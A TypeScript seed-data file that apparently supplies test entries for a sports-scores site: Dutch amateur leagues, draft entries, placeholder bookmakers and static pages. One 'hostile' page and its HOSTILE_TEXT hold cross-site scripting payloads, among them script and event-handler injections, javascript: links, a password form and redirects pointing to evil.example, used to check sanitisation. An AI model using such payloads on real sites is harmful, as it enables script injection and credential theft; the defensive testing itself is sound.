import { competitionIdOf } from '../../demo/content/feedIds.ts';
import { entryRef, type Fields, type SeedEntry } from './entry.ts';

/** Unusual entries: drafts, gaps, removed pages and hostile texts. */

const NETHERLANDS = entryRef('country Netherlands');
const LETTERS = Array.from('ABCDEFGHIJKLMNOPQRSTUVWX');
const CLASSES = ['Eerste', 'Tweede', 'Derde', 'Vierde', 'Vijfde'];

const competition = (name: string, more: Partial<SeedEntry> = {}): SeedEntry => ({
  key: `competition Netherlands ${name}`,
  type: 'competition',
  en: { competitionId: competitionIdOf('Netherlands', name), name, logo: null, country: NETHERLANDS },
  ...more,
});

/** A top competition that comes last by name, so that it is on the last page of results. */
export const LAST_CLASS = 'Zondag Hoofdklasse';

/** A top competition with a Dutch name. */
export const TRANSLATED = { en: 'Beach Soccer Cup', nl: 'Strandvoetbalbeker' };

const translated = competition(TRANSLATED.en);
const translatedCompetition: SeedEntry = { ...translated, nl: { ...translated.en, name: TRANSLATED.nl } };

/** Untranslated amateur leagues. More than one page of results have `klasse` in their name. */
const amateurLeagues: readonly SeedEntry[] = [
  ...CLASSES.flatMap((each) => LETTERS.map((letter) => competition(`${each} klasse ${letter}`))),
  competition(LAST_CLASS),
  translatedCompetition,
];

const drafts: readonly SeedEntry[] = [
  competition('Draftklasse', { draft: true }),
  {
    key: 'top draft',
    type: 'top-competition',
    en: { rank: 2, competition: entryRef('competition Netherlands Draftklasse') },
  },
  {
    key: 'operator draft',
    type: 'operator',
    draft: true,
    en: { name: 'Draftbet', rank: 0, playUrl: 'https://www.example.com/draft', countries: [entryRef('country GB')] },
  },
  { key: 'news draft', type: 'news-item', draft: true, en: { title: 'A drafted story', link: '/football' } },
  {
    key: 'page draft',
    type: 'page-content',
    draft: true,
    en: { pageLink: '/static/drafted', title: 'A drafted page' },
  },
];

/** More operators than one page of results. They are listed for no country. */
export const RACECOURSE_BOOKMAKERS = 105;

const racecourse: readonly SeedEntry[] = Array.from({ length: RACECOURSE_BOOKMAKERS }, (_, index) => {
  const name = `Racecourse Bookmaker ${index + 1}`;
  const playUrl = `https://www.example.com/racecourse/${index + 1}`;
  return { key: `operator ${name}`, type: 'operator', en: { name, rank: 100 + index, playUrl, countries: [] } };
});

const page = (pageLink: string, fields: Fields, more: Partial<SeedEntry> = {}): SeedEntry => ({
  key: `page ${pageLink}`,
  type: 'page-content',
  en: { pageLink, ...fields },
  ...more,
});

const HOSTILE_TEXT = [
  'Before.',
  '<script>window.hostile = 1</script><style>body { display: none }</style>',
  '<img src=x onerror="window.hostile = 2"><svg onload="window.hostile = 3"></svg>',
  '<iframe src="https://evil.example/frame" srcdoc="<script>parent.hostile = 4</script>"></iframe>',
  '[click](javascript:window.hostile=5) <a href="javascript:window.hostile=6">here</a> [data](data:text/html,hostile)',
  '</p></main></body></html><h1 style="position:fixed;inset:0">Broken out</h1>',
  '<form action="https://evil.example/"><input name="password"></form><base href="https://evil.example/">',
  '<scr<script>ipt>window.hostile = 7</scr</script>ipt> &lt;script&gt;window.hostile = 8&lt;/script&gt;',
  '</script><script>window.hostile = 9</script> {{window.hostile = 10}} <!-- a comment',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">',
  'After.',
].join('\n\n');

const pages: readonly SeedEntry[] = [
  page('/static/about-us', {
    title: 'Who makes these pages',
    metaTitle: 'About the people behind the scores',
    metaDescription: 'Who keeps the scores, and how to reach them.',
    content: [
      { heading: 'The desk', text: 'Scores come from the ground. **Corrections** are made within a minute.' },
      { heading: 'Reach us', text: '- [Write to the desk](https://www.example.com/desk)\n- Or call.' },
    ],
  }),
  // The path is Dutch, but the editor saved it in the panel's default language.
  page('/nl/static/redactie', { title: 'De redactie', content: [{ heading: null, text: 'Vier mensen en een bel.' }] }),
  page('/static/empty', { title: 'Nothing to read yet', content: [] }),
  page('/static/old-rules', { custom410: true }),
  page('/static/hostile', {
    title: 'Hostile </title><script>window.hostile = 11</script>',
    metaTitle: 'Hostile "><script>window.hostile = 12</script>',
    metaDescription: 'Hostile" onload="window.hostile = 13',
    content: [
      { heading: '<b onmouseover="window.hostile = 14">Heading</b>', text: HOSTILE_TEXT },
      { heading: null, text: null },
      { heading: 'Long', text: 'x'.repeat(30_000) },
    ],
  }),
];

export const specialEntries: readonly SeedEntry[] = [...amateurLeagues, ...drafts, ...racecourse, ...pages];
